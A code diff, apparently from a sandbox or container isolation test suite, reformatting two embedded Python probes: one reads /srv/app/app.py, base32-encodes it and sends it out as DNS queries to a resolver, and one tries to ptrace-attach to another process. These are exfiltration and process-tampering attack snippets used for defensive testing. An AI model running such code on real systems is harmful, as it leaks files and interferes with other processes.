@@ -144,7 +144,8 @@ def _names(world: World) -> list[Container]:
         "import socket, base64\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
         "for i in range(30):\n"
         "    name = base64.b32encode(open('/srv/app/app.py','rb').read()[i*30:i*30+30]).decode().strip('=')\n"
-        "    q = bytes([0, i, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + bytes([len(name)]) + name.encode() + b'\\x02t1\\x04test\\x00\\x00\\x10\\x00\\x01'\n"
+        "    q = bytes([0, i, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + bytes([len(name)]) + name.encode()\n"
+        "    q += b'\\x02t1\\x04test\\x00\\x00\\x10\\x00\\x01'\n"
         f"    s.sendto(q, ('{world.network.world}', {RESOLVER_PORT}))",
     )
     return [target]
@@ -187,7 +188,8 @@ def _ptrace(world: World) -> list[Container]:
         target,
         "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
         "others = [int(p) for p in os.listdir('/proc') if p.isdigit() and int(p) not in (1, os.getpid())]\n"
-        "r = libc.ptrace(16, others[0], 0, 0)\nif r == 0:\n    os.waitpid(others[0], 0); libc.ptrace(17, others[0], 0, 0)\n"
+        "r = libc.ptrace(16, others[0], 0, 0)\n"
+        "if r == 0:\n    os.waitpid(others[0], 0); libc.ptrace(17, others[0], 0, 0)\n"
         "answer = (r, ctypes.get_errno())",
     )
     return [target]
